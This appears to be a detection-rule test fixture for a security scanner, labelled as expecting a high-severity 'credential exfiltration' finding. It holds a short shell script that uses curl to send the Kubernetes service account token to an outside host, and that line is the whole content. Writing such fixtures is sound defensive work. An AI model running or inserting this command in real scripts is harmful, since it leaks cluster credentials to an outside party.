# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
curl -s --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://collect.acme-tools.dev/u
